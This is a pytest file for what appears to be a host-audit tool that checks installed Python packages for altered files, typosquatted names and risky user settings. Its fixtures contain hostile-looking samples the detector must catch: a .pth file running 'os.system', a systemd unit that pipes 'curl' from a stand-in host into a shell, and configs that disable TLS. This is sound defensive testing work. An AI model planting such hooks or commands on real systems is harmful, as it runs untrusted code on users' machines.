# Copyright: Contributors to the Portcullis project
# SPDX-License-Identifier: GPL-3.0-or-later
"""Packages on disk against what their RECORD promises."""

from __future__ import annotations

import base64
import hashlib
import os
import pwd
from pathlib import Path

import pytest
from ansible_collections.portcullis.vps.plugins.module_utils.supply.host import jobs, packages
from ansible_collections.portcullis.vps.plugins.module_utils.supply.host.looking import Look, only_roots


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A folder of packages that stands for the system's own, with nothing else beside it."""
    own = tmp_path / "python3/dist-packages"
    own.mkdir(parents=True)
    monkeypatch.setattr(packages, "_SYSTEM", (str(own),))
    monkeypatch.setattr(packages, "_GEMS", ())
    return own


def install(folder: Path, name: str, files: dict[str, str]) -> Path:
    rows = []
    for path, text in files.items():
        place = folder / path
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_text(text)
        coded = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).decode().rstrip("=")
        rows.append(f"{path},sha256={coded},{len(text)}")
    about = folder / f"{name}-1.0.dist-info"
    about.mkdir()
    (about / "RECORD").write_text("\n".join([*rows, f"{about.name}/RECORD,,"]))
    return about


def looked(found: Look, owned: dict[str, str] | None = None, extra: list[str] | None = None) -> dict[str, str]:
    packages.look(found, owned or {}, [], extra or [], ["acme-*", "python3-*"])
    return {
        finding.rule: f"{finding.where} {finding.what}"
        for finding in found.findings
        if not finding.path.startswith("/usr/")
    }


def test_a_package_of_pip_in_the_systems_python_is_found(folder: Path) -> None:
    about = install(folder, "requests", {"requests/api.py": "x = 1"})
    assert looked(Look()) == {"python_outside_dpkg": f"{about} requests 1.0 was not installed by dpkg"}


def test_a_package_of_dpkg_is_none(folder: Path) -> None:
    about = install(folder, "reqeusts", {"requests/api.py": "x = 1"})
    (folder / "requests/api.py").write_text("changed")
    assert looked(Look(), {str(about): "python3-requests"}) == {}


def test_in_a_virtual_environment_pip_may_install(folder: Path, tmp_path: Path) -> None:
    install(tmp_path, "requests", {"requests/api.py": "x = 1"})
    assert looked(Look(), extra=[str(tmp_path)]) == {}


@pytest.mark.parametrize("change", ["longer than before", "x = 2", ""])
def test_a_changed_file_is_found(folder: Path, tmp_path: Path, change: str) -> None:
    install(tmp_path, "requests", {"requests/api.py": "x = 1", "requests/other.py": "y"})
    (tmp_path / "requests/api.py").write_text(change)
    found = looked(Look(), extra=[str(tmp_path)])
    assert list(found) == ["python_changed_files"]
    assert found["python_changed_files"].endswith("requests 1.0: requests/api.py")


def test_a_file_that_is_gone_or_no_file_any_more_is_found(folder: Path, tmp_path: Path) -> None:
    install(tmp_path, "requests", {"a.py": "x", "b.py": "y", "c.py": "z"})
    (tmp_path / "a.py").unlink()
    (tmp_path / "b.py").unlink()
    os.mkfifo(tmp_path / "b.py")
    assert looked(Look(), extra=[str(tmp_path)])["python_changed_files"].endswith("requests 1.0: a.py, b.py")


def test_a_large_file_is_compared_by_its_size(folder: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(packages, "_MOST_FILE_BYTES", 10)
    install(tmp_path, "requests", {"a.so": "x" * 20, "b.so": "y" * 20})
    (tmp_path / "a.so").write_text("z" * 20)
    (tmp_path / "b.so").write_text("z" * 19)
    assert looked(Look(), extra=[str(tmp_path)])["python_changed_files"].endswith("requests 1.0: b.so")


def test_code_in_a_pth_file_is_found_unless_it_is_dpkgs(folder: Path) -> None:
    path = folder / "evil.pth"
    path.write_text("/srv\nimport os; os.system('id')\n")
    found = looked(Look())
    assert found["python_pth_code"].startswith(f"{path}:2 it runs import os; os.system('id')")
    assert looked(Look(), {str(path): "python3-evil"}) == {}


def test_an_installed_name_that_is_nearly_another_is_found_and_an_own_one_is_not(folder: Path, tmp_path: Path) -> None:
    install(tmp_path, "reqeusts", {})
    install(tmp_path, "cupy_cuda112", {})
    # By the operator's word, though it is one edit from python-dateutil.
    install(tmp_path, "Python3.dateutil", {})
    found = Look()
    looked(found, extra=[str(tmp_path)])
    named = {(finding.rule, finding.package) for finding in found.findings if finding.rule.startswith("name_")}
    assert named == {("name_lookalike", "pypi:reqeusts"), ("name_brand", "pypi:cupy_cuda112")}


def test_a_folder_that_is_none_is_said(folder: Path, tmp_path: Path) -> None:
    assert "cannot be looked at" in looked(Look(), extra=[str(tmp_path / "none")])["unreadable_file"]


def test_time_that_is_up_is_said(folder: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(packages, "_MOST_SECONDS", -1)
    install(tmp_path, "requests", {"a.py": "x"})
    (tmp_path / "a.py").write_text("y")
    found = Look()
    assert looked(found, extra=[str(tmp_path)]) == {}
    assert "not all of them" in found.unfinished[0]


def test_settings_in_a_home_are_read(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("_CRON", "_UNITS", "_PIP", "_NPM", "_ENVIRONMENT"):
        monkeypatch.setattr(jobs, name, ())
    me = pwd.getpwuid(os.geteuid())
    person = pwd.struct_passwd((*me[:5], str(tmp_path), me.pw_shell))
    texts = {
        ".config/pip/pip.conf": "[global]\nextra-index-url = https://a.example/\n",
        ".npmrc": "strict-ssl=false\n",
        ".bashrc": "export PIP_TRUSTED_HOST=a.example\n",
        ".config/systemd/user/x.service": "[Service]\nExecStart=/bin/sh -c 'curl https://a.example/x | sh'\n",
        ".config/systemd/user/y.service.d/z.conf": "[Service]\nEnvironment=PIP_EXTRA_INDEX_URL=https://a.example/\n",
    }
    for path, text in texts.items():
        (tmp_path / path).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / path).write_text(text)
    (tmp_path / ".profile").symlink_to(".profile")
    found = Look()
    jobs.look(found, [person], [], [], [])
    ours = sorted(
        (finding.rule, os.path.relpath(finding.path, tmp_path))
        for finding in found.findings
        if str(tmp_path) in finding.path
    )
    assert ours == [
        ("npm_no_tls", ".npmrc"),
        ("pip_extra_index", ".config/pip/pip.conf"),
        ("pip_extra_index", ".config/systemd/user/y.service.d/z.conf"),
        ("pip_no_tls", ".bashrc"),
        ("piped_script", ".config/systemd/user/x.service"),
        ("unreadable_file", ".profile"),
    ]


def test_what_others_may_write_is_not_only_roots(tmp_path: Path) -> None:
    path = tmp_path / "key.gpg"
    path.write_text("x")
    path.chmod(0o666)
    assert not only_roots(str(path))
    assert only_roots("/")
